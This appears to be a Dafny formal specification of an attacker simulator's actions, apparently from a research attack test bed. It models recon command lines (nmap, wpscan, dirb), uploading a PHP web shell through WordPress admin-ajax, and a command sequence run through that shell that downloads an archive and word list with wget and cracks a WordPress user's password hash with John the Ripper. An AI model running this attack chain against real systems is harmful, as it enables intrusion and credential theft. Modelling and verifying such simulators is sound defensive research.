/**
 * The attacker's transition functions (aecid_attacker/actions.py): the command lines of the
 * recon tools, the names the web-shell upload uses, the retrying web-shell request, and the
 * web-shell actions that refuse to run before a shell was uploaded. Processes, HTTP and HTML
 * are not modelled: a command is the argv it would run, a request the outcome of each attempt.
 */
module AttackerActions {
  import opened Wrappers
  import AttackerConfig

  // ---------------------------------------------------------------- recon command lines

  const TracerouteExe: string := "/usr/sbin/traceroute"
  const NmapExe: string := "/usr/bin/nmap"
  const WpscanExe: string := "/usr/local/bin/wpscan"
  const DirbExe: string := "/usr/bin/dirb"
  const HostScanOption: string := "-sn"
  const ServiceScanOption: string := "-sV"
  const DefaultWpscanArgs: seq<string> := ["--disable-tls-checks", "--no-update"]
  const DnsBruteScript: string := "--script=dns-brute"
  const DnsDomainArg: string := "dns-brute.domain="

  /** `Traceroute`: the executable and the host, nothing else. */
  function TracerouteArgs(host: string, exe: string): (r: seq<string>)
    ensures |r| == 2 && r[0] == exe && r[1] == host
  {
    [exe, host]
  }

  /** `NmapHostScan` / `NmapServiceScan`: executable, scan option, extra arguments, then the networks. */
  function NmapScanArgs(networks: seq<string>, exe: string, option: string, extra: seq<string>): (r: seq<string>)
    ensures |r| == 2 + |extra| + |networks|
    ensures r[0] == exe && r[1] == option
    ensures r[2..2 + |extra|] == extra && r[2 + |extra|..] == networks
  {
    [exe, option] + extra + networks
  }

  /** `NmapDNSBrute`: executable, extra arguments, the dns-brute script and its domain argument, then the servers. */
  function DnsBruteArgs(servers: seq<string>, domain: string, exe: string, extra: seq<string>): (r: seq<string>)
    ensures |r| == 4 + |extra| + |servers|
    ensures r[0] == exe && r[1..1 + |extra|] == extra && r[4 + |extra|..] == servers
    ensures r[1 + |extra|] == DnsBruteScript && r[2 + |extra|] == "--script-args"
    ensures r[3 + |extra|] == DnsDomainArg + domain
  {
    [exe] + extra + [DnsBruteScript, "--script-args", DnsDomainArg + domain] + servers
  }

  /** The domain nmap reads from a command line: the value of the first script argument that names one. */
  function ScriptDomain(args: seq<string>): (r: Option<string>)
    ensures r.Some? ==> exists i :: 0 <= i < |args| && args[i] == DnsDomainArg + r.value
  {
    if |args| == 0 then None
    else if |args[0]| >= |DnsDomainArg| && args[0][..|DnsDomainArg|] == DnsDomainArg then
      assert args[0] == DnsDomainArg + args[0][|DnsDomainArg|..];
      Some(args[0][|DnsDomainArg|..])
    else
      var rest := ScriptDomain(args[1..]);
      if rest.Some? then
        assert forall i :: 0 <= i < |args[1..]| ==> args[1..][i] == args[i + 1];
        rest
      else None
  }

  /** Whether an argument names a dns-brute domain. */
  predicate NamesDomain(a: string)
  {
    |a| >= |DnsDomainArg| && a[..|DnsDomainArg|] == DnsDomainArg
  }

  /**
   * The dns-brute command line hands nmap exactly the configured domain, as long as no extra
   * argument sets a domain of its own first.
   */
  lemma {:induction false} DnsBruteDomain(servers: seq<string>, domain: string, exe: string, extra: seq<string>)
    requires !NamesDomain(exe) && forall k :: 0 <= k < |extra| ==> !NamesDomain(extra[k])
    ensures ScriptDomain(DnsBruteArgs(servers, domain, exe, extra)) == Some(domain)
  {
    var args := DnsBruteArgs(servers, domain, exe, extra);
    assert !NamesDomain(DnsBruteScript) by { assert DnsBruteScript[0] != DnsDomainArg[0]; }
    assert !NamesDomain("--script-args") by { assert "--script-args"[0] != DnsDomainArg[0]; }
    forall k | 0 <= k < 3 + |extra|
      ensures !NamesDomain(args[k])
    {
      if 1 <= k < 1 + |extra| {
        assert args[k] == args[1..1 + |extra|][k - 1];
      }
    }
    SkipToDomain(args, 3 + |extra|, domain);
  }

  lemma {:induction false} SkipToDomain(args: seq<string>, j: nat, domain: string)
    requires j < |args| && args[j] == DnsDomainArg + domain
    requires forall k :: 0 <= k < j ==> !NamesDomain(args[k])
    ensures ScriptDomain(args) == Some(domain)
    decreases j
  {
    if j == 0 {
      assert args[0][..|DnsDomainArg|] == DnsDomainArg;
      assert args[0][|DnsDomainArg|..] == domain;
    } else {
      assert !NamesDomain(args[0]);
      assert forall k :: 0 <= k < j - 1 ==> args[1..][k] == args[k + 1];
      SkipToDomain(args[1..], j - 1, domain);
    }
  }

  /** `WPScan`: executable, extra arguments (by default no TLS checks and no update), then `--url` and the URL. */
  function WpscanArgs(url: string, exe: string, extra: seq<string>): (r: seq<string>)
    ensures |r| == 3 + |extra| && r[0] == exe && r[1..1 + |extra|] == extra
  {
    [exe] + extra + ["--url", url]
  }

  /** The URL a wpscan command line targets: the value after a trailing `--url`. */
  function TargetUrl(args: seq<string>): (r: Option<string>)
    ensures r.Some? <==> |args| >= 2 && args[|args| - 2] == "--url"
    ensures r.Some? ==> r.value == args[|args| - 1]
  {
    if |args| >= 2 && args[|args| - 2] == "--url" then Some(args[|args| - 1]) else None
  }

  /** The scan always targets the configured URL, whatever the extra arguments. */
  lemma WpscanTargets(url: string, exe: string, extra: seq<string>)
    ensures TargetUrl(WpscanArgs(url, exe, extra)) == Some(url)
  {
    var r := WpscanArgs(url, exe, extra);
    assert r[|r| - 2] == "--url" && r[|r| - 1] == url;
  }

  /** `Dirb`: executable, the URLs, the word lists, then the extra arguments. */
  function DirbArgs(urls: seq<string>, wordlists: seq<string>, exe: string, extra: seq<string>): (r: seq<string>)
    ensures |r| == 1 + |urls| + |wordlists| + |extra| && r[0] == exe
    ensures r[1..1 + |urls|] == urls
    ensures r[1 + |urls|..1 + |urls| + |wordlists|] == wordlists
    ensures r[1 + |urls| + |wordlists|..] == extra
  {
    [exe] + urls + wordlists + extra
  }

  // ---------------------------------------------------------------- web shell upload

  /**
   * The upload endpoint: the WordPress URL, a slash, and the configured relative admin-ajax
   * path. A path that passed `no_slash` never doubles the slash at the junction, and the two
   * parts can be read back from the endpoint.
   */
  function AjaxEndpoint(url: string, adminAjax: string): (r: string)
    ensures |r| == |url| + 1 + |adminAjax|
    ensures r[..|url|] == url && r[|url|] == '/' && r[|url| + 1..] == adminAjax
    ensures AttackerConfig.NoSlash(adminAjax).Success? ==> r[|url| + 1] != '/'
  {
    url + "/" + adminAjax
  }

  /** With the default path the endpoint is the WordPress admin-ajax script below the URL. */
  lemma DefaultEndpoint(url: string)
    ensures AjaxEndpoint(url, AttackerConfig.DefaultAdminAjax) == url + "/wp-admin/admin-ajax.php"
  {
  }

  /**
   * The uploaded file's name: the configured image name or, when it is missing or empty, the
   * jpeg file's stem, with `.php` appended so the web server executes it.
   */
  function ShellName(imageName: Option<string>, stem: string): (r: string)
    ensures |r| >= 4 && r[|r| - 4..] == ".php"
    ensures imageName.Some? && |imageName.value| > 0 ==> r[..|r| - 4] == imageName.value
    ensures imageName.None? || |imageName.value| == 0 ==> r[..|r| - 4] == stem
  {
    (if imageName.Some? && |imageName.value| > 0 then imageName.value else stem) + ".php"
  }

  /** Python's `or` treats an empty name as missing: both fall back to the stem. */
  lemma EmptyImageNameUsesStem(stem: string)
    ensures ShellName(Some(""), stem) == ShellName(None, stem) == stem + ".php"
  {
  }

  // ---------------------------------------------------------------- the shell URL's scheme

  /**
   * The directory part of the reconstruction pattern starts with `http[s]://`: the bracket
   * admits exactly one character, so only `https://` URLs match.
   */
  predicate SchemeMatchesAsWritten(url: string)
  {
    |url| >= 8 && url[..8] == "https://"
  }

  /** The evidently intended `https?://`: plain HTTP and HTTPS upload URLs both match. */
  predicate SchemeMatches(url: string)
  {
    (|url| >= 8 && url[..8] == "https://") || (|url| >= 7 && url[..7] == "http://")
  }

  /** A web shell uploaded to a plain-HTTP WordPress is rejected as an upload error. */
  lemma PlainHttpRejectedAsWritten(rest: string)
    ensures !SchemeMatchesAsWritten("http://" + rest)
    ensures SchemeMatches("http://" + rest)
  {
    var u := "http://" + rest;
    assert u[4] == ':';
    if |u| >= 8 {
      assert u[..8][4] == u[4];
    }
    assert u[..7] == "http://";
  }

  /** The intended pattern accepts every URL the written one does, and a URL of either scheme. */
  lemma SchemeMatchesWidens(url: string, rest: string)
    ensures SchemeMatchesAsWritten(url) ==> SchemeMatches(url)
    ensures SchemeMatches("http://" + rest) && SchemeMatches("https://" + rest)
  {
    assert ("http://" + rest)[..7] == "http://";
    assert ("https://" + rest)[..8] == "https://";
  }

  // ---------------------------------------------------------------- web shell requests

  /** The default number of retries after a connection error. */
  const DefaultRetryLimit: int := 9

  /** The most attempts a request makes: one, plus one per allowed retry. */
  function MaxAttempts(retryLimit: int): (n: nat)
    ensures n >= 1 && (retryLimit >= 0 ==> n == retryLimit + 1)
    ensures retryLimit == DefaultRetryLimit ==> n == 10
  {
    if retryLimit >= 0 then retryLimit + 1 else 1
  }

  /** Some attempt from `k` up to (not including) `n` gets through. */
  function GetsThrough(connError: nat -> bool, k: nat, n: nat): (ok: bool)
    ensures ok <==> exists j :: k <= j < n && !connError(j)
    decreases n - k
  {
    if k >= n then false
    else if !connError(k) then true
    else GetsThrough(connError, k + 1, n)
  }

  /** Whether `send_request` returns rather than re-raising its last connection error. */
  function Delivered(connError: nat -> bool, retryLimit: int): (ok: bool)
    ensures ok <==> exists k :: 0 <= k < MaxAttempts(retryLimit) && !connError(k)
  {
    GetsThrough(connError, 0, MaxAttempts(retryLimit))
  }

  /**
   * `send_request`: attempt `k` (from 0) fails with a connection error iff `connError(k)`.
   * After the `c`-th error the request sleeps `c` seconds and retries, unless `c` exceeds the
   * retry limit, in which case the error propagates. The request succeeds iff one of the
   * first `MaxAttempts` attempts gets through, and then it is the first such attempt.
   */
  method SendRequest(connError: nat -> bool, retryLimit: int) returns (ok: bool, attempts: nat, sleeps: seq<nat>)
    ensures 1 <= attempts <= MaxAttempts(retryLimit)
    ensures forall k :: 0 <= k < attempts - 1 ==> connError(k)
    ensures ok <==> !connError(attempts - 1)
    ensures ok <==> exists k :: 0 <= k < MaxAttempts(retryLimit) && !connError(k)
    ensures ok == Delivered(connError, retryLimit)
    ensures !ok ==> attempts == MaxAttempts(retryLimit)
    ensures |sleeps| == attempts - 1 && forall k :: 0 <= k < |sleeps| ==> sleeps[k] == k + 1
  {
    ok, attempts, sleeps := false, 0, [];
    var stop := false;
    while !stop
      invariant attempts <= MaxAttempts(retryLimit)
      invariant !stop ==> !ok && attempts < MaxAttempts(retryLimit) && |sleeps| == attempts
      invariant stop ==> attempts >= 1 && |sleeps| == attempts - 1
      invariant forall k :: 0 <= k < |sleeps| ==> sleeps[k] == k + 1
      invariant forall k :: 0 <= k < |sleeps| ==> connError(k)
      invariant stop ==> (ok <==> !connError(attempts - 1))
      invariant stop && !ok ==> attempts == MaxAttempts(retryLimit)
      decreases MaxAttempts(retryLimit) - attempts
    {
      attempts := attempts + 1;
      if !connError(attempts - 1) {
        ok, stop := true, true;
      } else if attempts > retryLimit {
        stop := true;
      } else {
        sleeps := sleeps + [attempts];
      }
    }
    if !ok {
      assert forall k :: 0 <= k < MaxAttempts(retryLimit) ==> connError(k) by {
        forall k | 0 <= k < MaxAttempts(retryLimit)
          ensures connError(k)
        {
          if k < |sleeps| {
            assert connError(k);
          }
        }
      }
    }
  }

  // ---------------------------------------------------------------- web shell actions

  /**
   * `ExecWebShellCommand`: the command is sent through the uploaded shell by `send_request`,
   * whose attempt `k` hits a connection error iff `connError(k)`. Without a shell the action
   * raises, and so does the request once its retries are used up.
   */
  function ExecWebShellCommand(cmd: seq<string>, webShell: Option<string>, connError: nat -> bool, retryLimit: int)
    : (r: Result<(string, seq<string>)>)
    ensures r.Failure? <==> webShell.None? || forall k :: 0 <= k < MaxAttempts(retryLimit) ==> connError(k)
    ensures webShell.None? ==> r == Failure(NoWebShell)
    ensures r.Success? ==> r.value == (webShell.value, cmd)
  {
    if webShell.None? then Failure(NoWebShell)
    else if !Delivered(connError, retryLimit) then Failure(ConnectionFailed)
    else Success((webShell.value, cmd))
  }

  /**
   * The retry limit is exact: a shell command whose first `n` attempts hit connection errors
   * still goes through with the retry limit `n`, and fails when its attempt `n` errs as well.
   */
  lemma {:induction false} LastRetrySuffices(cmd: seq<string>, webShell: string, n: nat)
    ensures ExecWebShellCommand(cmd, Some(webShell), k => k < n, n) == Success((webShell, cmd))
    ensures ExecWebShellCommand(cmd, Some(webShell), k => k <= n, n).Failure?
  {
    var errs: nat -> bool := k => k < n;
    assert 0 <= n < MaxAttempts(n) && !errs(n);
  }

  const NoWebShell: string := "No web shell to execute at"
  const ConnectionFailed: string := "ConnectionError"

  /** `WPHashCrack`'s settings; the tar's download name is filled in by the first run. */
  datatype HashCrack = HashCrack(
    url: string, fileName: string, wlUrl: string, wlName: string, attackedUser: string,
    tarDownloadName: Option<string>)

  const HashCrackScript: string := "./wphashcrack-0.1/wphashcrack.sh"
  const JohnDir: string := "./wphashcrack-0.1/john-1.7.6-jumbo-12-Linux64/run"

  /**
   * A run: the settings afterwards, the commands sent through the shell in order (the last one
   * is the request that failed when the run raised), and the error it raised, if any.
   */
  datatype HashCrackRun = HashCrackRun(next: HashCrack, cmds: seq<seq<string>>, error: Option<string>)

  /** The archive download: `wget` the URL, saved under the download name when one is set. */
  function DownloadCmd(h: HashCrack): (r: seq<string>)
    ensures |r| >= 2 && r[..2] == ["wget", h.url]
    ensures h.tarDownloadName.None? <==> |r| == 2
    ensures h.tarDownloadName.Some? ==> r[2..] == ["-O", h.tarDownloadName.value]
  {
    ["wget", h.url] + (if h.tarDownloadName.Some? then ["-O", h.tarDownloadName.value] else [])
  }

  /**
   * `WPHashCrack.__call__`: without a web shell it raises; otherwise it downloads the archive,
   * unpacks it under the download name (the file name when none was set, which is also the
   * name `wget` saves under when the URL ends in it), fetches the word list and runs the
   * cracker against the attacked user with that word list. Request `i` of the four attempts
   * `k` with a connection error iff `connError(i)(k)`; the first request that exhausts its
   * retries raises and ends the run. The download name is set right after the download
   * returns, so it stays set when a later request raises.
   */
  function HashCrackCall(h: HashCrack, webShell: Option<string>, connError: nat -> nat -> bool, retryLimit: int)
    : (r: HashCrackRun)
    ensures r.error.None? <==> webShell.Some? && forall i :: 0 <= i < 4 ==> Delivered(connError(i), retryLimit)
    ensures webShell.None? ==> r == HashCrackRun(h, [], Some(NoWebShell))
    ensures webShell.Some? ==>
              var n := if h.tarDownloadName.Some? then h.tarDownloadName.value else h.fileName;
              && 1 <= |r.cmds| <= 4
              && (forall i :: 0 <= i < |r.cmds| - 1 ==> Delivered(connError(i), retryLimit))
              && (r.error.Some? ==> r.error == Some(ConnectionFailed) && !Delivered(connError(|r.cmds| - 1), retryLimit))
              && r.cmds[0] == DownloadCmd(h)
              && (|r.cmds| > 1 ==> r.cmds[1] == ["tar", "xvfz", n])
              && (|r.cmds| > 2 ==> r.cmds[2] == ["wget", h.wlUrl])
              && (|r.cmds| > 3 ==> |r.cmds[3]| == 7 && r.cmds[3][0] == HashCrackScript
                                   && r.cmds[3][|r.cmds[3]| - 1] == h.attackedUser)
              && r.next == (if Delivered(connError(0), retryLimit) then h.(tarDownloadName := Some(n)) else h)
  {
    if webShell.None? then HashCrackRun(h, [], Some(NoWebShell))
    else
      var next := if h.tarDownloadName.None? then h.(tarDownloadName := Some(h.fileName)) else h;
      var cmds := [
        DownloadCmd(h),
        ["tar", "xvfz", next.tarDownloadName.value],
        ["wget", h.wlUrl],
        [HashCrackScript, "-w", "$PWD/" + h.wlName, "-j", JohnDir, "-u", h.attackedUser]
      ];
      if !Delivered(connError(0), retryLimit) then HashCrackRun(h, cmds[..1], Some(ConnectionFailed))
      else if !Delivered(connError(1), retryLimit) then HashCrackRun(next, cmds[..2], Some(ConnectionFailed))
      else if !Delivered(connError(2), retryLimit) then HashCrackRun(next, cmds[..3], Some(ConnectionFailed))
      else if !Delivered(connError(3), retryLimit) then HashCrackRun(next, cmds, Some(ConnectionFailed))
      else HashCrackRun(next, cmds, None)
  }

  /** The archive unpacked is always the one the download saved when a name is set. */
  lemma HashCrackUnpacksDownload(h: HashCrack, webShell: string, connError: nat -> nat -> bool, retryLimit: int)
    requires h.tarDownloadName.Some?
    ensures var run := HashCrackCall(h, Some(webShell), connError, retryLimit);
            |run.cmds| > 1 ==> run.cmds[1][2] == run.cmds[0][3]
  {
  }

  /**
   * Once a download got through the name is fixed: later runs leave the settings alone and
   * send the same commands as far as they get, the download now saving under the file name
   * with `-O`. A run that raises after its download has fixed the name as well; one whose
   * download failed leaves the settings as they were.
   */
  lemma HashCrackSettles(h: HashCrack, webShell: string, first: nat -> nat -> bool, second: nat -> nat -> bool,
                         retryLimit: int)
    ensures var one := HashCrackCall(h, Some(webShell), first, retryLimit);
            var two := HashCrackCall(one.next, Some(webShell), second, retryLimit);
            && (!Delivered(first(0), retryLimit) ==> one.next == h)
            && (forall i :: 1 <= i < |one.cmds| && i < |two.cmds| ==> two.cmds[i] == one.cmds[i])
            && (Delivered(first(0), retryLimit) ==>
                  && one.next.tarDownloadName.Some?
                  && two.next == one.next
                  && (|two.cmds| > 1 ==> two.cmds[1][2] == two.cmds[0][3])
                  && (h.tarDownloadName.None? ==> two.cmds[0] == one.cmds[0] + ["-O", h.fileName]))
  {
  }
}
